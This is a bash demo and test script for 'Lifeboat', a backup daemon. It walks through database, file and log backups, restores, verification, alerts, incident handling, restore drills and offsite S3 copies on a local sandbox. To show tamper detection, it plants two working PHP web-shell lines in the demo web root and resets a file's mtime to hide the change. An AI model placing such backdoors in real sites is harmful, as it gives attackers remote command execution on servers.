#!/bin/bash
# The Lifeboat demo, from a fresh Debian 12 machine:
#   tests/demo.sh
# Installs what it needs, builds, starts a private MariaDB holding a small
# sample shop database, a sample web root and a few logs (all under
# ./demo-run, never the system server), writes a demo config for them, starts
# lifeboatd on it and shows what Lifeboat does: each kind of backup (db,
# files, logs) run through the daemon, the store, incremental snapshots, the
# three restores compared with their originals, verify, a tampered log
# raising an alert, a failed run, retention, and `lifeboat status`.  Then the
# newer features, each added to the config and the daemon reloaded: a watch
# job (a baseline, a web shell dropped in the live tree raising alerts through
# lifeboatd's on_change check, `watch report`, `diff`), an incident (the
# on_incident hook's maintenance flag, the evidence and its manifest checked
# with sha256sum -c, a bundle, `restore --replace` of the clean backup,
# close), a drill job run through the daemon (VERIFIED RESTORE in status),
# and offsite copies on a local s3rver (offsite init and sync, `list
# --offsite`, `restore --from` compared with the original).
# Everything it starts (lifeboatd, MariaDB, s3rver) is stopped when it ends.
set -euo pipefail

src=$(cd "$(dirname "$0")/.." && pwd)
demo="$src/demo-run"
build="$src/build"

"$src/tests/install-deps.sh"
if [ ! -d "$build/meson-private" ]; then
	meson setup "$build" "$src" --buildtype=debugoptimized
fi
ninja -C "$build"
lifeboat="$build/daemon/lifeboat"
lifeboatd="$build/daemon/lifeboatd"

# A fresh demo area each time.  The MariaDB data dir lives in /tmp because the
# mysql user must be able to reach it, whatever the checkout's parents allow.
"$src/tests/mariadb.sh" stop "$demo/mariadb-dir" 2>/dev/null || true
rm -rf "$demo"
mkdir -p "$demo"
dbdir=$(mktemp -d /tmp/lifeboat-demo-mariadb.XXXXXX)
ln -s "$dbdir" "$demo/mariadb-dir"
daemon_pid=""
s3_pid=""
cleanup() {
	if [ -n "$s3_pid" ]; then
		kill -TERM "$s3_pid" 2>/dev/null || true
		wait "$s3_pid" 2>/dev/null || true
	fi
	if [ -n "$daemon_pid" ] && kill -0 "$daemon_pid" 2>/dev/null; then
		kill -TERM "$daemon_pid" 2>/dev/null || true
		wait "$daemon_pid" 2>/dev/null || true
	fi
	"$src/tests/mariadb.sh" stop "$dbdir" >/dev/null 2>&1 || true
	rm -rf "$dbdir"
}
trap cleanup EXIT

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "Starting a private MariaDB with the sample shop database"
"$src/tests/mariadb.sh" start "$dbdir"
# shellcheck disable=SC1091
. "$dbdir/env"
mariadb --no-defaults --socket="$LIFEBOAT_TEST_MYSQL_SOCKET" -uroot < "$src/tests/sql/sample-site.sql"
mariadb --no-defaults --socket="$LIFEBOAT_TEST_MYSQL_SOCKET" -uroot -t \
	-e 'SELECT table_name, table_rows FROM information_schema.tables WHERE table_schema = "shop"'

step "Creating a sample web root"
"$src/tests/sample-webroot.sh" "$demo/www"
find "$demo/www" | head -25

step "Some web server logs, with a rotated one from before Lifeboat"
mkdir -p "$demo/logs"
hit() { printf '203.0.113.%d - - [25/Nov/2026:%s +0000] "GET %s HTTP/1.1" 200 %d\n' "$1" "$2" "$3" "$4"; }
hit 7 08:00:00 /old-page 1200 > "$demo/logs/access.log.1"
hit 9 09:00:00 / 512 > "$demo/logs/access.log"
hit 9 09:00:01 /shop/cart 2048 >> "$demo/logs/access.log"
printf 'Nov 25 09:00:02 web sshd[811]: Accepted publickey for deploy from 198.51.100.4\n' > "$demo/logs/auth.log"
ls -l "$demo/logs"

step "The demo config ($demo/lifeboat.ini)"
install -m 600 "$LIFEBOAT_TEST_MYSQL_PASSWORD_FILE" "$demo/shop.password"
cat > "$demo/lifeboat.ini" <<INI
[lifeboat]
store = $demo/store
state_dir = $demo/state
socket = $demo/lifeboatd.sock
socket_group = root     ; who may ask the daemon (besides root and its own user)
max_load = 0            ; the load gate off: a demo machine is busy building; don't wait on it
io_limit = 0

[db:shop]
schedule = every 6h
socket = $LIFEBOAT_TEST_MYSQL_SOCKET
user = lifeboat
password_file = $demo/shop.password
databases = shop

[files:site]
schedule = 30 2 * * *
path = $demo/www
exclude = cache/*, *.tmp

[logs:web]
schedule = @hourly
paths = $demo/logs/*.log
verify_every = 0        ; re-hash everything archived on every run
INI
cat "$demo/lifeboat.ini"

step "lifeboatd -n: the daemon's config check"
"$lifeboatd" -n -c "$demo/lifeboat.ini"

step "lifeboat check-config: the effective config, defaults filled in (first lines)"
"$lifeboat" -c "$demo/lifeboat.ini" check-config > "$demo/effective.ini"
head -30 "$demo/effective.ini"
echo "... (all of it in $demo/effective.ini)"

lb() { "$lifeboat" -c "$demo/lifeboat.ini" "$@"; }

step "Starting lifeboatd (log: $demo/lifeboatd.log)"
"$lifeboatd" -c "$demo/lifeboat.ini" > "$demo/lifeboatd.log" 2>&1 &
daemon_pid=$!
for _ in $(seq 100); do
	[ -S "$demo/lifeboatd.sock" ] && break
	sleep 0.1
done
[ -S "$demo/lifeboatd.sock" ] || { cat "$demo/lifeboatd.log"; echo "lifeboatd did not start" >&2; exit 1; }
cat "$demo/lifeboatd.log"

step "lifeboat status: nothing backed up yet"
lb status

step "lifeboat run JOB --wait: each kind of backup, run by the daemon"
lb run shop --wait
lb run site --wait
lb run web --wait

step "The store: artifacts, checksums and records, readable without Lifeboat"
month=$(ls -d "$demo"/store/shop/*/* | tail -1)
ls -l "$month"
(cd "$month" && sha256sum -c backup-*-01.sha256)
zstd -dc "$month"/backup-*-01.sql.zst > "$demo/shop-dump.sql"
head -12 "$demo/shop-dump.sql"
echo "..."
tail -1 "$demo/shop-dump.sql"
python3 -c 'import json,sys; r=json.load(open(sys.argv[1])); d=r["db"]; print("record:", r["id"], r["result"], "binlog", d["binlog"], "tables", [(t["table"], t["rows"]) for t in d["tables"]])' "$month"/backup-*-01.json
site_month=$(ls -d "$demo"/store/site/*/* | tail -1)
echo "the web root, a plain tar:"
tar --zstd -tvf "$site_month"/backup-*-01.tar.zst > "$demo/site-tar.txt"
head -8 "$demo/site-tar.txt"
echo "... ($(wc -l < "$demo/site-tar.txt") entries)"
web_month=$(ls -d "$demo"/store/web/*/* | tail -1)
echo "the logs, one entry per segment archived:"
tar --zstd -tvf "$web_month"/backup-*-01.tar.zst

step "A change on the site and new log lines; the second runs are incremental"
# Requests logged now, so they fall inside the window `lifeboat when` finds.
hit_now() { printf '%s - - [%s] "%s %s HTTP/1.1" 200 %d\n' "$1" "$(LC_ALL=C date -u +%d/%b/%Y:%H:%M:%S) +0000" "$2" "$3" "$4"; }
sleep 1
hit_now 192.0.2.66 POST /admin/upload.php 88 >> "$demo/logs/access.log"
echo '<?php /* updated */ echo "hello";' > "$demo/www/index.php"
echo "new page" > "$demo/www/new.html"
mariadb --no-defaults --socket="$LIFEBOAT_TEST_MYSQL_SOCKET" -uroot \
	-e "UPDATE shop.customers SET city = 'Nowhere' WHERE id = 1"
sleep 1
lb run site --wait
hit_now 192.0.2.66 GET /new.html 9 >> "$demo/logs/access.log"
lb run web --wait
lb run shop --wait
python3 -c 'import json,sys; r=json.load(open(sys.argv[1])); f=r["files"]; print("site:", r["id"], {k: f[k] for k in ("type", "parent", "added", "changed", "removed", "unchanged") if k in f})' \
	"$(ls "$site_month"/backup-*.json | tail -1)"

step "lifeboat list: the backups in the store"
lb list

step "Restores: the database beside the original, the web root and the logs into new directories"
lb restore shop latest --database shop_restored
mariadb --no-defaults --socket="$LIFEBOAT_TEST_MYSQL_SOCKET" -uroot -t \
	-e 'CHECKSUM TABLE shop.customers, shop_restored.customers, shop.orders, shop_restored.orders'
lb restore site latest --to "$demo/restored-site"
# cache/* is excluded by the config: its content is the one difference.
diff -r --exclude=.keep "$demo/www" "$demo/restored-site" &&
	echo "restored web root: identical to $demo/www (but for the excluded cache/ content)"
lb restore web latest --to "$demo/restored-logs"
find "$demo/restored-logs" -type f | sort
cat "$demo/logs/access.log.1" "$demo/logs/access.log" | cmp - "$(find "$demo/restored-logs" -path '*access.log' -type f | head -1)" 2>/dev/null &&
	echo "restored access.log history: identical to access.log.1 + access.log" ||
	echo "(the restored access log history is in $demo/restored-logs)"

step "lifeboat verify: every artifact re-hashed against its record"
lb verify

step "lifeboat when: when did index.php and new.html change, and who was on the site then?"
lb when index.php new.html

step "lifeboat when --job shop and lifeboat diff: which tables changed between the dumps"
lb when --job shop
ids=$(lb list shop --json | python3 -c 'import json,sys; l=json.load(sys.stdin); print(l[0]["id"], l[-1]["id"])')
# shellcheck disable=SC2086
lb diff shop $ids

step "lifeboat facts: the server, its software versions, and what changed since the last files backup"
lb facts | sed -n 1,30p   # sed reads it all: no SIGPIPE for lb under pipefail
echo "..."
lb facts --diff

step "Someone edits an archived log line: the next run raises an alert"
sed -i 's/198.51.100.4/10.0.0.1/' "$demo/logs/auth.log"
lb run web --wait || true
lb status || true
lb status --check || echo "(exit status $?)"
alert=$(ls "$demo/state/alerts/open" | head -1)
lb ack "${alert%.json}"

step "A failed run leaves nothing behind (wrong password), and status says so"
printf 'wrong\n' > "$demo/wrong.password"
chmod 600 "$demo/wrong.password"
cp "$demo/lifeboat.ini" "$demo/lifeboat.ini.good"
sed -i "s|password_file = $demo/shop.password|password_file = $demo/wrong.password|" "$demo/lifeboat.ini"
lb reload
lb run shop --wait || echo "(exit status $?)"
lb status --check || echo "(exit status $?)"
cp "$demo/lifeboat.ini.good" "$demo/lifeboat.ini"
lb reload
lb run shop --wait

step "Retention: pin a backup, then see what prune would keep and why"
lb pin shop latest --reason "demo: known good"
lb prune --dry-run

step "What throttling recorded for the last shop run"
python3 -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))["throttle"], indent=1))' \
	"$(ls "$month"/backup-*.json | tail -1)"

# ---- watch, incident, drill and offsite: each added to the config as it
# comes, the daemon told with `lifeboat reload`.
lastid() { lb list "$1" --json | python3 -c 'import json,sys; print(json.load(sys.stdin)[-1]["id"])'; }

step "A watch job: the live web root against a baseline snapshot you trust"
cat >> "$demo/lifeboat.ini" <<INI

[watch:site-watch]
files = site            ; the files job: its path is watched, its snapshots are baselines
schedule = @daily       ; a full check once a day...
on_change = yes         ; ...and one soon after any file changes (inotify)
INI
sed -n '/^\[watch:site-watch\]/,$p' "$demo/lifeboat.ini"
lb reload
site_clean=$(lastid site)
lb baseline site-watch "$site_clean"
lb run site-watch --wait
lb status | grep -E '^(JOB|site-watch)|site-watch:'

step "Someone drops a web shell in uploads/ and backdoors a file: lifeboatd notices"
sleep 1
printf '<?php @eval(base64_decode($_POST["x"])); ?>\n' > "$demo/www/wp-content/uploads/2024/05/.thumb.php"
cp -p "$demo/www/includes/functions.php" "$demo/functions.php.orig"
printf '<?php if (isset($_GET["k"])) { system($_GET["k"]); } ?>\n' >> "$demo/www/includes/functions.php"
touch -r "$demo/functions.php.orig" "$demo/www/includes/functions.php"   # the old mtime back
t0=$(date +%s.%N)
watched=""
for _ in $(seq 600); do
	if compgen -G "$demo/state/alerts/open/site-watch-*" >/dev/null &&
		grep -q 'thumb.php' "$demo/state/watch/site-watch/report.json" 2>/dev/null &&
		grep -q 'functions.php' "$demo/state/watch/site-watch/report.json" 2>/dev/null; then
		watched=yes
		break
	fi
	sleep 0.1
done
[ -n "$watched" ] || { tail -20 "$demo/lifeboatd.log"; echo "the on_change check raised no alert in 60 s" >&2; exit 1; }
awk -v t0="$t0" -v t1="$(date +%s.%N)" 'BEGIN { printf "alerts raised by the on_change check %.1f s after the files changed\n", t1 - t0 }'
grep 'site-watch' "$demo/lifeboatd.log" | tail -3
lb status || true

step "lifeboat watch report and diff: what the check found, against the baseline"
lb watch report site-watch
lb diff site "$site_clean"
lb diff site "$site_clean" --path includes/functions.php || true

step "An incident: the site goes offline, the evidence is captured, then the clean backup goes back"
# on_incident takes the site offline (here: a maintenance flag the web
# server would check); on_incident_close brings it back.
sed -i "/^io_limit = 0/a on_incident = echo \"incident \$1\" > $demo/maintenance.flag; echo site offline\\
on_incident_close = rm -f $demo/maintenance.flag; echo site back online" "$demo/lifeboat.ini"
sed -n '/^\[lifeboat\]/,/^$/p' "$demo/lifeboat.ini"
lb reload
lb incident open --note "site-watch: web shell in wp-content/uploads"
echo "maintenance flag: $(cat "$demo/maintenance.flag")"
inc=$(ls "$demo/store/incidents" | tail -1)
incdir="$demo/store/incidents/$inc"
lb status | grep INCIDENT
lb incident status

step "The evidence is checkable with plain tools; a bundle to hand over (without the dump)"
(cd "$incdir" && sha256sum -c MANIFEST.sha256)
echo "changes.json: the live tree against the newest good backup (excluded cache/ content shows too: the evidence skips no file)"
python3 -c 'import json,sys
for j in json.load(open(sys.argv[1]))["jobs"]:
    for c in j["changes"]:
        print("  %-8s %s %s" % (c["change"], c["path"], ",".join(c.get("differs", []))))' "$incdir/changes.json"
lb incident bundle --no-db -o "$demo/incident-bundle.tar.zst"
(cd "$demo" && sha256sum -c incident-bundle.tar.zst.sha256)
tar --zstd -tvf "$demo/incident-bundle.tar.zst" | sed -n 1,12p

step "restore --replace: the clean backup swapped in for the live web root in one rename"
checks_before=$(grep -c 'job site-watch: run ok' "$demo/lifeboatd.log")
lb restore site "$site_clean" --replace
diff -r --exclude=.keep "$demo/www" "$demo/restored-site" &&
	echo "live web root: identical to the clean backup $site_clean"
find "$incdir/replaced" -name .thumb.php
lb incident 'done' passwords   # what is left to you: here, say you changed them
lb incident close
[ ! -e "$demo/maintenance.flag" ] && echo "maintenance flag removed: the site is back online"

step "After the swap: lifeboatd's on_change check, the alerts acknowledged, the restored tree the new baseline"
# The swap is a change: wait for lifeboatd's check of the restored tree.
running() { lb status --json | python3 -c 'import json,sys; sys.exit(0 if any(j["name"] == sys.argv[1] and j.get("running") for j in json.load(sys.stdin)["jobs"]) else 1)' "$1"; }
for _ in $(seq 300); do
	[ "$(grep -c 'job site-watch: run ok' "$demo/lifeboatd.log")" -gt "$checks_before" ] && ! running site-watch && break
	sleep 0.1
done
lb watch report site-watch
echo "(a restore makes each symlink anew: a new inode, which the index reads as a new target)"
lb ack site-watch
lb baseline site-watch --accept
lb run site-watch --wait
lb watch report site-watch | sed -n 1,2p

step "A drill job: restore each newest backup into scratch space and check it against its record"
cat >> "$demo/lifeboat.ini" <<INI

[drill:weekly]
schedule = @weekly
of = shop, site, web
scratch_dir = $demo/drill-scratch
INI
sed -n '/^\[drill:weekly\]/,$p' "$demo/lifeboat.ini"
lb reload
lb run weekly --wait
drill_month=$(ls -d "$demo"/store/weekly/*/* | tail -1)
cat "$(ls "$drill_month"/backup-*.txt | tail -1)"
lb status | sed -n '/^JOB/,/^$/p'

step "Offsite copies: an encrypted copy of every backup on S3 (a local s3rver here)"
# shellcheck source=tests/helpers/s3rver.sh
. "$src/tests/helpers/s3rver.sh"
s3_port=$(s3rver_port)
s3rver_start "$demo/s3" "$s3_port" lifeboat-demo "$demo/s3rver.log" || { s3_pid=$S3RVER_PID; exit 1; }
s3_pid=$S3RVER_PID
echo "s3rver listening on 127.0.0.1:$s3_port (pid $s3_pid)"
(umask 077; printf '[default]\naws_access_key_id = S3RVER\naws_secret_access_key = S3RVER\n' > "$demo/s3.credentials")
cat >> "$demo/lifeboat.ini" <<INI

[offsite:s3]
url = s3://lifeboat-demo/web1
endpoint = http://127.0.0.1:$s3_port
credentials_file = $demo/s3.credentials    ; AWS shared-credentials format, 0600
key_file = $demo/offsite.key               ; made by lifeboat offsite init s3, 0600
INI
sed -n '/^\[offsite:s3\]/,$p' "$demo/lifeboat.ini"
lb offsite init s3
ls -l "$demo/s3.credentials" "$demo/offsite.key"
lb reload
lb offsite sync s3
lb list --offsite s3
echo "what s3rver holds (encrypted):"
find "$demo/s3/lifeboat-demo" -name '*._S3rver_object' | sort | sed -n 1,4p
head -c 8 "$(find "$demo/s3/lifeboat-demo" -path '*site*' -name '*.tar.zst._S3rver_object' | head -1)"; echo " ..."

step "restore --from s3: the web root back from the offsite copy, compared with the original"
lb restore site latest --from s3 --to "$demo/offsite-restored-site"
diff -r --exclude=.keep "$demo/www" "$demo/offsite-restored-site" &&
	echo "web root restored from s3: identical to $demo/www"
lb status | sed -n '/^offsite/,$p'

step "lifeboat status: when was my last good backup?"
lb status
lb status --check

step "Stopping lifeboatd (SIGTERM)"
kill -TERM "$daemon_pid"
wait "$daemon_pid"
daemon_pid=""
tail -5 "$demo/lifeboatd.log"
